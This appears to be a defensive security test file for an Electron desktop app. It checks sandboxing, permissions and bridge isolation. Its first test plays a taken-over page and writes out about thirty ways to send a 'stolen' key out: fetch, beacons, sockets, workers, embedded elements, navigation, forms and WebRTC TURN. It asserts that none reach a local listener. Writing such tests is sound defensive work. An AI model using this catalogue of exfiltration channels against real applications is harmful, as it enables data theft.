import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { type AddressInfo, connect, createServer } from 'node:net';
import { expect, launchDesk, test } from './support/desk';

/** Whoever would like to have what the page knows: counts every connection and every datagram that arrives. */
async function startListener() {
  const tcp = createServer((socket) => {
    listener.tcpHits += 1;
    socket.on('error', () => undefined).end();
  }).listen(0, '127.0.0.1');
  await once(tcp, 'listening');
  const { port } = tcp.address() as AddressInfo;
  const udp = createSocket('udp4', () => (listener.udpHits += 1)).bind(port, '127.0.0.1');
  await once(udp, 'listening');
  const listener = { port, tcpHits: 0, udpHits: 0, close: () => (tcp.close(), udp.close()) };
  return listener;
}

/** Sends both kinds of hit and waits for them, so that a count of nothing is known to come from a listener that counts. */
async function hitOnce(listener: Awaited<ReturnType<typeof startListener>>): Promise<void> {
  const socket = connect(listener.port, '127.0.0.1');
  await once(socket, 'close');
  const datagrams = createSocket('udp4').unref();
  datagrams.send('x', listener.port, '127.0.0.1');
  await expect.poll(() => listener.udpHits).toBeGreaterThan(0);
  datagrams.close();
}

test('A page that was taken over reaches nobody: not by requests, navigation, windows, or WebRTC', async () => {
  const desk = await launchDesk();
  const listener = await startListener();
  await desk.page.waitForLoadState();
  await desk.page.evaluate(async (port) => {
    const http = `http://127.0.0.1:${port}/?stolen=key`;
    const settle = (work: () => unknown) => new Promise((done) => void Promise.resolve().then(work).then(done, done));
    const element = (tag: string, attributes: Record<string, string>) =>
      settle(
        () =>
          new Promise((done) => {
            const node = document.createElement(tag);
            node.onload = node.onerror = done;
            for (const [name, value] of Object.entries(attributes)) node.setAttribute(name, value);
            document.body.append(node);
            setTimeout(done, 300);
          }),
      );
    await Promise.all([
      settle(() => fetch(http, { mode: 'no-cors' })),
      settle(() => fetch(http, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'key' })),
      settle(() => navigator.sendBeacon(http, 'key')),
      settle(() => new WebSocket(`ws://127.0.0.1:${port}/`)),
      settle(() => new EventSource(http)),
      settle(() => import(/* @vite-ignore */ http)),
      settle(() => new Worker(http)),
      settle(() => navigator.serviceWorker.register(http)),
      element('img', { src: http }),
      element('iframe', { src: http }),
      element('object', { data: http }),
      element('embed', { src: http }),
      element('video', { src: http }),
      element('link', { rel: 'stylesheet', href: http }),
      element('link', { rel: 'prefetch', href: http }),
      element('link', { rel: 'preconnect', href: http }),
      element('link', { rel: 'preload', as: 'font', href: http }),
      element('link', { rel: 'manifest', href: http }),
      element('webview', { src: http }),
      element('meta', { 'http-equiv': 'refresh', content: `0; url=${http}` }),
      element('style', {}).then(() => settle(() => (document.body.style.backgroundImage = `url(${http})`))),
    ]);
    for (const work of [
      () => window.open(http),
      () => window.open('about:blank')?.location.assign(http),
      () => location.assign(http),
      () => {
        const link = Object.assign(document.createElement('a'), { href: http, ping: http, target: '_blank' });
        document.body.append(link);
        link.click();
        link.target = '_self';
        link.click();
        link.download = 'key';
        link.click();
      },
      () => {
        const form = Object.assign(document.createElement('form'), { action: http, method: 'post' });
        document.body.append(form);
        form.submit();
      },
    ]) {
      await settle(work);
    }
  }, listener.port);
  await desk.page.evaluate(async (port) => {
    const iceServers = ['udp', 'tcp'].flatMap((transport) => [
      { urls: `turn:127.0.0.1:${port}?transport=${transport}`, username: 'stolen', credential: 'key' },
      { urls: `stun:127.0.0.1:${port}` },
    ]);
    const peer = new RTCPeerConnection({ iceServers });
    peer.createDataChannel('stolen');
    const gathered = new Promise<void>((done) => {
      peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && done();
      setTimeout(done, 5_000);
    });
    await peer.setLocalDescription(await peer.createOffer());
    await gathered;
    peer.close();
  }, listener.port);

  expect(desk.page.url()).toMatch(/^app:\/\/ui\/(#|$)/);
  expect(desk.app.windows()).toHaveLength(1);
  expect({ tcp: listener.tcpHits, udp: listener.udpHits }).toEqual({ tcp: 0, udp: 0 });
  await hitOnce(listener);
  expect({ tcp: listener.tcpHits, udp: listener.udpHits }).toEqual({ tcp: 1, udp: 1 });
  listener.close();
  await desk.close();
});

test('The window has every protection Electron offers, and its page has no Node and no permission', async ({
  desk,
}) => {
  const preferences = await desk.app.evaluate(({ BrowserWindow }) => {
    const contents = BrowserWindow.getAllWindows()[0]?.webContents as
      { getLastWebPreferences?: () => object } | undefined;
    return contents?.getLastWebPreferences?.();
  });
  expect(preferences).toMatchObject({
    sandbox: true,
    contextIsolation: true,
    nodeIntegration: false,
    nodeIntegrationInSubFrames: false,
    webSecurity: true,
    webviewTag: false,
  });
  const page = await desk.page.evaluate(async () => ({
    node: ['require', 'process', 'module', 'Buffer'].filter((name) => name in globalThis),
    bridge: Object.keys(Reflect.get(globalThis, 'partnerDesk') as object).sort(),
    notifications: await Notification.requestPermission(),
    clipboard: await navigator.clipboard.readText().then(
      () => 'read',
      () => 'refused',
    ),
    location: await new Promise((done) => navigator.geolocation.getCurrentPosition(done, () => done('refused'))),
  }));
  expect(page).toEqual({
    node: [],
    bridge: ['call', 'onEvent'],
    notifications: 'denied',
    clipboard: 'refused',
    location: 'refused',
  });
});

test('Another window on the same page is refused by every call', async ({ desk }) => {
  const answer = await desk.app.evaluate(async ({ app, BrowserWindow }) => {
    const session = BrowserWindow.getAllWindows()[0]?.webContents.session;
    const preload = `${app.getAppPath()}/out/preload/preload.cjs`;
    const other = new BrowserWindow({ show: false, webPreferences: { session, preload, sandbox: true } });
    await other.loadURL('app://ui/');
    const said: unknown = await other.webContents.executeJavaScript("partnerDesk.call('app.info')");
    other.destroy();
    return said;
  });
  expect(answer).toMatchObject({ ok: false, error: { kind: 'not-permitted' } });
});

test('The page that is printed hears only the window that prints it, and has no other bridge', async ({ desk }) => {
  const said = await desk.app.evaluate(async ({ app, BrowserWindow }) => {
    const session = BrowserWindow.getAllWindows()[0]?.webContents.session;
    const preload = `${app.getAppPath()}/out/preload/print-preload.cjs`;
    const other = new BrowserWindow({ show: false, webPreferences: { session, preload, sandbox: true } });
    await other.loadURL('app://ui/print.html');
    const ask = (code: string): Promise<unknown> => other.webContents.executeJavaScript(code);
    const answers = {
      bridge: await ask('Object.keys(printDesk).sort()'),
      app: await ask("'partnerDesk' in window"),
      job: await ask("printDesk.job().then(() => 'answered', () => 'refused')"),
    };
    other.destroy();
    return answers;
  });
  expect(said).toEqual({
    bridge: ['failed', 'job', 'ready'],
    app: false,
    job: 'refused',
  });
});
